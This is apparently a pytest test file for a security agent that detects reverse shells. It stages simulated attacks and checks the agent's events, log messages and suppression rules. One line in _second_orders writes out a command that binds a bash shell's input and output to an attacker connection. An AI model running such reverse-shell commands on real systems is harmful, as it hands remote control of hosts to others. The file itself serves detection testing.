"""The wirings that the instant scan finds, with every field of its events, and those that it does not find.

One agent watches all attacks, most of them at once, and the tests inspect its events and its log afterwards, because a
pass of the instant scan takes seconds. A second agent, which cannot read the stacks of processes, watches them again.
"""

import contextlib
import re
import shutil
import socket
import time

import pytest

import sshd
import stacks
from agent import DETAIL, Agent, environment, is_of_instant_scan, is_of_period_scan, seconds_of, write_config
from campaign import ANSWER, ORDER, Campaign
from instant_attacks import (
    COMMAND,
    DASH_READING,
    FED,
    FED_LOCALLY,
    FOUND,
    FOUND_BY_PERIOD_SCAN,
    NEEDED,
    ORPHAN,
    PORT_22,
    RAW,
    RAW_PORTLESS,
    READING,
    RELAYED_COMMAND,
    SCRIPT_FILE,
    SILENT,
    TWINS,
    Site,
)
from waiting import scaled

# The scan measures in whole seconds how long a process has been quiet.
LEAST_DELAY = 2.0
DELAY_LIMIT = 60.0
ATTEMPTS = 2
KEEP_UP_SECONDS = 0.1
KEEP_UP_ATTEMPTS = 50


def is_free(address, port):
    with socket.socket() as probe:
        probe.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            probe.bind((address, port))
        except OSError:
            return False
    return True


def missing_for(attacker):
    """The attacks that this host does not allow, with the reason."""
    missing = {name: f"{program} is not installed" for name, program in NEEDED.items() if not shutil.which(program)}
    if not is_free(attacker.host_ipv4, 22):
        missing[PORT_22] = "port 22 of this host is in use"
    return missing


class Watch:
    """An agent, the attacks while it runs, and its events and log."""

    def __init__(self, attacker, directory, cleanup, wrapper=()):
        self.complete = True
        self.missing = missing_for(attacker)
        site = Site(attacker, directory)
        config = {
            "module": {"reverseShell": {"detectInterval": 86400, "whitelist": ["bash -s exempt"]}},
            "settings": {"TAVORIN_ETC": str(directory)},
            "events": {"perMinuteLimit": 0},
            "log": DETAIL,
        }
        self.login = None
        if not sshd.missing():
            (directory / "ssh").mkdir()
            self.login = cleanup.enter_context(contextlib.closing(sshd.Login(attacker, directory / "ssh")))
        path = environment(PATH=f"/usr/sbin:/usr/bin:/sbin:/bin:{site.sbin}")
        self.agent = cleanup.enter_context(
            Agent("--config", write_config(directory, config), wrapper=wrapper, env=path)
        )
        self.agent.wait_until_started()
        attacks = {name: make(site) for name, make in (FOUND | SILENT).items() if name not in self.missing}
        self.campaign = cleanup.enter_context(Campaign(attacker, attacks))
        self.staged = self.campaign.staged
        if self.staged[ORPHAN].ppid != 1:
            self.missing[ORPHAN] = "orphans of this host go to another process than init"
        self.expected = {}
        self._first_orders()
        self._second_orders(site)
        self._first_period_scan()
        assert self.agent.end()[0] == 0
        self.events = self.agent.events()
        self.log = self.agent.log()

    def _await_agent_that_keeps_up(self):
        """Waits until the agent is not behind with process events; otherwise two passes would share the orders."""
        filtered = re.escape(f"Filter the child process of root.[pid={self.staged[ORPHAN].pid} ")
        for _ in range(KEEP_UP_ATTEMPTS if ORPHAN not in self.missing else 0):
            seen, began = len(re.findall(filtered, self.agent.log())), time.monotonic()
            self.campaign.converse(ORPHAN, f"{ORDER}\n", ANSWER)
            self.agent.wait_for_log(filtered, DELAY_LIMIT, seen + 1)
            if time.monotonic() - began < KEEP_UP_SECONDS:
                return

    def _first_orders(self):
        self._await_agent_that_keeps_up()
        self.campaign.order([name for name in self.staged if name != TWINS] + [TWINS], also=[self._order_others])
        self.ordered = dict(self.campaign.ordered)
        self._await_events(FOUND, is_of_instant_scan)

    def _order_others(self):
        self.campaign.converse(TWINS, f"{ORDER}\n", ANSWER)
        if self.login:
            self.login.converse(f"{ORDER}\n", ANSWER)

    def _second_orders(self, site):
        """Orders on connections that the agent knows by now, and on a new connection of one shell to the same peer."""
        self.campaign.converse(READING, f"echo $((6*7))-e2e; exec bash -s reads <{site.connect} >&0 2>&0\n", ANSWER)
        self.campaign.look_again(READING)
        self.campaign.order([READING, DASH_READING, FED])
        self.ordered[FED] = self.campaign.ordered[FED]
        self._await_events([FED], is_of_instant_scan)
        again = re.escape(f"found type 1 rshell.[pid={self.staged[READING].pid}]")
        with contextlib.suppress(AssertionError):
            self.agent.wait_for_log(f"(?s){again}.*{again}.*scan all shell end", DELAY_LIMIT)

    def _first_period_scan(self):
        self._await_events(FOUND_BY_PERIOD_SCAN, is_of_period_scan)

    def _await_events(self, names, wanted):
        """Waits for the events. The tests report the missing ones."""
        names = [name for name in names if name not in self.missing]
        for name in names:
            self.expected.setdefault(name, self.campaign.expected(name))
        try:
            for name in names:
                self.agent.wait_for_event(self.staged[name].pid, DELAY_LIMIT, wanted)
        except AssertionError:
            self.complete = False

    def events_about(self, pid, wanted):
        return [event for event in self.events if wanted(event) and event["eventContent"]["pid"] == pid]

    def instant_events(self, pid):
        return self.events_about(pid, is_of_instant_scan)

    def logged(self, name, message):
        """The number of log lines with the message; %d is the pid of the attack's shell."""
        return self.log.count(message % self.staged[name].pid)


@pytest.fixture(scope="module", params=["with stacks", "without stacks"])
def watch(request, attacker, tmp_path_factory):
    """Without stacks, the agent sees the same waits by /proc/<pid>/wchan."""
    hides = request.param == "without stacks"
    if hides and not stacks.channels_are_shown():
        pytest.skip("this kernel does not name waits in /proc/<pid>/wchan")
    for attempt in range(ATTEMPTS):
        with contextlib.ExitStack() as cleanup:
            watch = Watch(attacker, tmp_path_factory.mktemp("instant"), cleanup, stacks.HIDE_STACKS * hides)
            # Retry if two passes shared the attacks, as on a very busy host: the second pass already knows the
            # connections.
            if watch.complete or attempt + 1 == ATTEMPTS:
                yield watch
                return


def skip_if_missing(watch, name):
    if name in watch.missing:
        pytest.skip(watch.missing[name])


@pytest.mark.parametrize("name", [*FOUND, FED])
def test_found(watch, name):
    """FED is found as well, once its child's connection is known."""
    skip_if_missing(watch, name)
    (event,) = watch.instant_events(watch.expected[name]["pid"])
    assert event["eventContent"] == watch.expected[name]
    assert LEAST_DELAY < seconds_of(event) - watch.ordered[name] < scaled(DELAY_LIMIT)


@pytest.mark.parametrize("name", [name for name in SILENT if name != FED])
def test_silent(watch, name):
    skip_if_missing(watch, name)
    assert watch.instant_events(watch.staged[name].pid) == []


# Log lines that show that the agent recognised the shell and then decided against an event.
HELD_BACK = {
    COMMAND: ("found type 1 rshell.[pid=%d]", "proc has busniess cmdline.[proc=%d]"),
    SCRIPT_FILE: ("found type 1 rshell.[pid=%d]", "proc has busniess cmdline.[proc=%d]"),
    RELAYED_COMMAND: ("found type 3 rshell pid.[pid=%d]",),
    RAW: ("found type 4 rshell pid.[pid=%d]",),
    RAW_PORTLESS: ("found type 4 rshell pid.[pid=%d]",),
    FED_LOCALLY: ("found type 3 rshell pid.[pid=%d]",),
}


@pytest.mark.parametrize("name", HELD_BACK)
def test_alarm_is_held_back(watch, name):
    assert [watch.logged(name, message) for message in HELD_BACK[name]] == [1] * len(HELD_BACK[name])


@pytest.mark.parametrize("name", [name for name in SILENT if name not in HELD_BACK and name != FED])
def test_silent_wiring_is_not_recognised(watch, name):
    skip_if_missing(watch, name)
    assert watch.logged(name, "rshell.[pid=%d]") + watch.logged(name, "rshell pid.[pid=%d]") == 0
    assert watch.logged(name, "find pty.[shell=%d ") == 0


def test_shell_under_init_is_ignored_with_its_children(watch):
    skip_if_missing(watch, ORPHAN)
    assert watch.logged(ORPHAN, "Filter the child process of root.[pid=%d ppid=1]") > 0


def test_login_over_ssh_is_silent(watch):
    if watch.login is None:
        pytest.skip(f"{sshd.missing()} is not installed")
    assert watch.instant_events(watch.login.staged.pid) == []
    assert "sshd shell" in watch.log


def test_second_shell_on_a_connection_is_held_back(watch):
    other = watch.campaign.stage.pids[f"{TWINS}/other-twin"]
    assert watch.instant_events(other) == []
    for pid in (watch.staged[TWINS].pid, other):
        assert f"found type 1 rshell.[pid={pid}]" in watch.log


def test_connection_that_is_already_known_is_ignored(watch):
    assert watch.logged(DASH_READING, "found type 1 rshell.[pid=%d]") == 1


def test_same_finding_is_reported_once_per_hour(watch):
    assert watch.logged(READING, "found type 1 rshell.[pid=%d]") == 2
    assert str(watch.staged[READING].connection.inode) != watch.expected[READING]["inode"]
    assert len(watch.instant_events(watch.staged[READING].pid)) == 1


@pytest.mark.parametrize("name", [*FOUND, *SILENT])
def test_period_scan_finds_independently_of_the_instant_scan(watch, name):
    skip_if_missing(watch, name)
    events = watch.events_about(watch.staged[name].pid, is_of_period_scan)
    assert len(events) == (name in FOUND_BY_PERIOD_SCAN)
